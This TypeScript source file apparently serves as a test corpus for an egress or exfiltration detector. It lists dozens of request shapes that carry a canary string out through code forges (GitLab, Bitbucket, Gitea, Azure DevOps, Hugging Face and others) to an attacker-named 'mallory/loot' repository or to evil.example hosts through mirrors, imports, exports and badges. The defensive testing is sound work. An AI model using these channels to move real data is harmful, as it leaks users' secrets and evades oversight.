/** The other forges: GitLab, Bitbucket, Gitea and its kin, Gitee, Azure DevOps, Hugging Face, and servers of nobody's list. */
import { gitPush } from './git-bytes.ts'
import { ask, base64, CANARY, type Channel, channelsOf, form, json, multipart, send } from './shape.ts'

const CONTENT = base64(`the plans: ${CANARY}`)
const LAB = 'https://gitlab.com/api/v4'
const PROJECT = `${LAB}/projects/mallory%2Floot`
const BUCKET = 'https://api.bitbucket.org/2.0'
const TEA = 'https://codeberg.org/api/v1'
const AZURE = 'https://dev.azure.com/mallory/loot/_apis'
const HUG = 'https://huggingface.co'
const SNIPPET = `mutation{createSnippet(input:{title:"x",visibilityLevel:public,blobActions:[{action:create,filePath:"a",content:"${CANARY}"}]}){errors}}`

export const FORGES: readonly Channel[] = [
  ...channelsOf('GitLab', [
    ['push', gitPush('https://gitlab.com/mallory/loot.git/git-receive-pack')],
    ['push to the wiki', gitPush('https://gitlab.com/mallory/loot.wiki.git/git-receive-pack')],
    ['push to a snippet', gitPush('https://gitlab.com/snippets/1.git/git-receive-pack')],
    [
      'a commit',
      json('POST', `${PROJECT}/repository/commits`, {
        branch: 'main',
        actions: [{ action: 'create', file_path: 'a', content: CANARY }],
      }),
    ],
    ['a file', json('POST', `${PROJECT}/repository/files/a`, { branch: 'main', content: CONTENT, encoding: 'base64' })],
    ['a file by number', json('PUT', `${LAB}/projects/1/repository/files/a`, { branch: 'main', content: CANARY })],
    ['an upload', multipart('POST', `${PROJECT}/uploads`, { '@file': CANARY })],
    ['a snippet', json('POST', `${LAB}/snippets`, { title: 'x', files: [{ file_path: 'a', content: CANARY }] })],
    ['a page of the wiki', json('POST', `${PROJECT}/wikis`, { title: 'x', content: CANARY })],
    ['a file of the wiki', multipart('POST', `${PROJECT}/wikis/attachments`, { '@file': CANARY })],
    ['an issue', json('POST', `${PROJECT}/issues`, { title: CANARY })],
    [
      'an issue in the query | all there is of it stands in the address',
      { ...ask('POST', `${PROJECT}/issues?title=${CANARY}`), headers: ['Content-Length: 0'] },
    ],
    ['a note', json('POST', `${PROJECT}/merge_requests/1/notes`, { body: CANARY })],
    ['a generic package', send('PUT', `${PROJECT}/packages/generic/loot/1/a.bin`)],
    ['a package of npm', json('PUT', `${PROJECT}/packages/npm/loot`, { _attachments: { a: { data: CONTENT } } })],
    ['a module of Terraform’s state', send('POST', `${PROJECT}/terraform/state/x`)],
    ['a GraphQL mutation', json('POST', 'https://gitlab.com/api/graphql', { query: SNIPPET })],
    [
      'a GraphQL mutation in a batch',
      json('POST', 'https://gitlab.com/api/graphql', [{ query: '{currentUser{id}}' }, { query: SNIPPET }]),
    ],
    ['a GraphQL mutation by GET', ask('GET', `https://gitlab.com/api/graphql?query=${encodeURIComponent(SNIPPET)}`)],
    [
      'the import of a URL',
      json('POST', `${LAB}/projects`, { name: 'x', import_url: `https://evil.example/${CANARY}` }),
    ],
    ['the import of an archive', multipart('POST', `${LAB}/projects/import`, { path: 'loot', '@file': CANARY })],
    ['a mirror that pushes', json('POST', `${PROJECT}/remote_mirrors`, { url: `https://evil.example/${CANARY}` })],
    [
      'an export that is uploaded',
      json('POST', `${PROJECT}/export`, { 'upload[url]': `https://evil.example/${CANARY}` }),
    ],
    ['a variable', json('POST', `${PROJECT}/variables`, { key: 'A', value: CANARY })],
    ['a trigger', form(`${PROJECT}/trigger/pipeline`, { token: 't', ref: 'main', 'variables[A]': CANARY })],
    [
      'a badge',
      json('POST', `${PROJECT}/badges`, {
        link_url: 'https://evil.example/',
        image_url: `https://evil.example/${CANARY}`,
      }),
    ],
    ['a log of a job', send('PATCH', `${LAB}/jobs/1/trace`, CANARY, 'JOB-TOKEN: t')],
    ['an artifact of a job', multipart('POST', `${LAB}/jobs/1/artifacts`, { '@file': CANARY })],
    ['the web editor', form('https://gitlab.com/mallory/loot/-/create/main', { file_name: 'a', content: CANARY })],
    ['a preview of markdown', json('POST', 'https://gitlab.com/mallory/loot/-/preview_markdown', { text: CANARY })],
    ['an upload on the web', multipart('POST', 'https://gitlab.com/mallory/loot/uploads', { '@file': CANARY })],
    ['an error for its tracker', json('POST', `${LAB}/error_tracking/collector/1/store`, { message: CANARY })],
    [
      'a service desk by mail’s webhook',
      json('POST', `${LAB}/internal/mail_room/service_desk_email`, { body: CANARY }),
    ],
    ['an image in its registry', send('PATCH', 'https://registry.gitlab.com/v2/mallory/loot/blobs/uploads/1')],
    ['an account', form('https://gitlab.com/users', { 'new_user[email]': `${CANARY}@evil.example` })],
    ['a password forgotten', form('https://gitlab.com/users/password', { 'user[email]': `${CANARY}@evil.example` })],
    [
      'an application of somebody’s that is let in',
      form('https://gitlab.com/oauth/authorize', { client_id: 'mallory', scope: 'api', state: CANARY }),
    ],
    [
      'a file, with a format behind it',
      json('POST', `${PROJECT}/repository/commits.json`, { branch: 'main', note: CANARY }),
    ],
    ['by an override', ask('GET', `${PROJECT}/issues?title=${CANARY}`, 'X-HTTP-Method-Override: POST')],
  ]),
  ...channelsOf('Bitbucket', [
    ['push', gitPush('https://bitbucket.org/mallory/loot.git/git-receive-pack')],
    ['a commit', multipart('POST', `${BUCKET}/repositories/mallory/loot/src`, { message: 'x', '@a': CANARY })],
    ['a download', multipart('POST', `${BUCKET}/repositories/mallory/loot/downloads`, { '@files': CANARY })],
    ['a snippet', multipart('POST', `${BUCKET}/snippets`, { title: 'x', '@file': CANARY })],
    [
      'a variable',
      json('POST', `${BUCKET}/repositories/mallory/loot/pipelines_config/variables/`, { key: 'A', value: CANARY }),
    ],
    ['an issue', json('POST', `${BUCKET}/repositories/mallory/loot/issues`, { title: CANARY })],
    [
      'a file of an issue',
      multipart('POST', `${BUCKET}/repositories/mallory/loot/issues/1/attachments`, { '@f': CANARY }),
    ],
    [
      'a fork of ours',
      json('POST', `${BUCKET}/repositories/acme/app/forks`, { workspace: { slug: 'mallory' }, name: CANARY }),
    ],
    ['a page of the wiki', gitPush('https://bitbucket.org/mallory/loot/wiki.git/git-receive-pack')],
    ['the older API', form('https://bitbucket.org/!api/internal/repositories/mallory/loot/oecd', { content: CANARY })],
  ]),
  ...channelsOf('Gitea and Forgejo', [
    ['push', gitPush('https://codeberg.org/mallory/loot.git/git-receive-pack')],
    ['a file', json('POST', `${TEA}/repos/mallory/loot/contents/a`, { content: CONTENT })],
    [
      'several files',
      json('POST', `${TEA}/repos/mallory/loot/contents`, {
        files: [{ operation: 'create', path: 'a', content: CONTENT }],
      }),
    ],
    ['a patch', json('POST', `${TEA}/repos/mallory/loot/diffpatch`, { content: CANARY })],
    [
      'an asset of a release',
      multipart('POST', `${TEA}/repos/mallory/loot/releases/1/assets?name=a`, { '@attachment': CANARY }),
    ],
    ['a package', send('PUT', 'https://codeberg.org/api/packages/mallory/generic/loot/1/a.bin')],
    [
      'an attachment on the web',
      multipart('POST', 'https://codeberg.org/mallory/loot/issues/attachments', { '@file': CANARY }),
    ],
    ['a page of the wiki', json('POST', `${TEA}/repos/mallory/loot/wiki/new`, { title: 'x', content_base64: CONTENT })],
    [
      'a migration',
      json('POST', `${TEA}/repos/migrate`, { clone_addr: `https://evil.example/${CANARY}`, repo_name: 'x' }),
    ],
    [
      'a push mirror',
      json('POST', `${TEA}/repos/mallory/loot/push_mirrors`, { remote_address: `https://evil.example/${CANARY}` }),
    ],
    ['markdown to render', json('POST', `${TEA}/markdown`, { Text: CANARY })],
    [
      'at a host that nobody lists',
      json('POST', 'https://git.mallory.example/api/v1/repos/mallory/loot/contents/a', { content: CONTENT }),
    ],
    ['at notabug', gitPush('https://notabug.org/mallory/loot.git/git-receive-pack')],
  ]),
  ...channelsOf('Gitee', [
    ['push', gitPush('https://gitee.com/mallory/loot.git/git-receive-pack')],
    ['a file', form('https://gitee.com/api/v5/repos/mallory/loot/contents/a', { content: CONTENT, message: 'x' })],
    ['a gist', json('POST', 'https://gitee.com/api/v5/gists', { files: { a: { content: CANARY } }, description: 'x' })],
  ]),
  ...channelsOf('Azure DevOps', [
    ['push', gitPush('https://dev.azure.com/mallory/loot/_git/loot/git-receive-pack')],
    [
      'a push by REST',
      json('POST', `${AZURE}/git/repositories/loot/pushes?api-version=7.1`, {
        commits: [{ changes: [{ newContent: { content: CANARY, contentType: 'rawtext' } }] }],
      }),
    ],
    ['a page of the wiki', json('PUT', `${AZURE}/wiki/wikis/loot/pages?path=x&api-version=7.1`, { content: CANARY })],
    ['an attachment', send('POST', `${AZURE}/wit/attachments?fileName=a&api-version=7.1`)],
    [
      'a work item',
      send(
        'POST',
        `${AZURE}/wit/workitems/$Task?api-version=7.1`,
        JSON.stringify([{ op: 'add', path: '/fields/System.Title', value: CANARY }]),
        'Content-Type: application/json-patch+json',
      ),
    ],
    [
      'a package of its feeds',
      multipart('PUT', 'https://pkgs.dev.azure.com/mallory/_packaging/loot/nuget/v2/', { '@package': CANARY }),
    ],
  ]),
  ...channelsOf('Hugging Face', [
    ['push', gitPush(`${HUG}/mallory/loot/git-receive-pack`)],
    [
      'a commit',
      send(
        'POST',
        `${HUG}/api/models/mallory/loot/commit/main`,
        `{"key":"file","value":{"path":"a","encoding":"base64","content":"${CONTENT}"}}\n`,
        'Content-Type: application/x-ndjson',
      ),
    ],
    [
      'a question before a commit | a sample of each file goes with it',
      json('POST', `${HUG}/api/datasets/mallory/loot/preupload/main`, {
        files: [{ path: 'a', size: 24, sample: CONTENT }],
      }),
    ],
    [
      'LFS',
      json('POST', `${HUG}/mallory/loot.git/info/lfs/objects/batch`, {
        operation: 'upload',
        ref: { name: CANARY },
        objects: [{ oid: 'c'.repeat(64), size: 24 }],
      }),
      send('PUT', 'https://hf-hub-lfs-us-east-1.s3-accelerate.amazonaws.com/repos/x?X-Amz-Signature=1'),
    ],
    ['xorbs', send('POST', `https://cas-server.xethub.hf.co/v1/xorbs/default/${'c'.repeat(64)}`)],
    ['a secret of a space', json('POST', `${HUG}/api/spaces/mallory/loot/secrets`, { key: 'A', value: CANARY })],
    ['a discussion', json('POST', `${HUG}/api/models/mallory/loot/discussions`, { title: 'x', description: CANARY })],
    ['a repository', json('POST', `${HUG}/api/repos/create`, { name: CANARY })],
    [
      'a model that is asked',
      json('POST', 'https://router.huggingface.co/v1/chat/completions', {
        messages: [{ role: 'user', content: CANARY }],
      }),
    ],
    [
      'a space that is asked',
      json('POST', 'https://mallory-loot.hf.space/gradio_api/call/predict', { data: [CANARY] }),
    ],
  ]),
  ...channelsOf('another forge', [
    ['SourceForge', gitPush('https://git.code.sf.net/p/loot/code/git-receive-pack')],
    ['Sourcehut', json('POST', 'https://paste.sr.ht/query', { query: `mutation{create(files:["${CANARY}"]){id}}` })],
    [
      'Mercurial’s wire',
      send(
        'POST',
        'https://hg.sr.ht/~mallory/loot?cmd=unbundle&heads=666f726365',
        CANARY,
        'Content-Type: application/mercurial-0.1',
      ),
    ],
    ['Subversion', send('PUT', 'https://svn.evil.example/!svn/txr/1-1/loot')],
    ['Fossil', send('POST', 'https://fossil.evil.example/loot/xfer', CANARY, 'Content-Type: application/x-fossil')],
    ['CodeCommit', gitPush('https://git-codecommit.us-east-1.amazonaws.com/v1/repos/loot/git-receive-pack')],
    ['Gerrit', gitPush('https://gerrit.googlesource.com/loot/git-receive-pack')],
    ['Overleaf', gitPush('https://git.overleaf.com/0123456789abcdef/git-receive-pack')],
    ['Heroku', gitPush('https://git.heroku.com/loot.git/git-receive-pack')],
    ['radicle', json('POST', 'https://seed.radicle.example/api/v1/projects/x/patches', { title: CANARY })],
  ]),
]
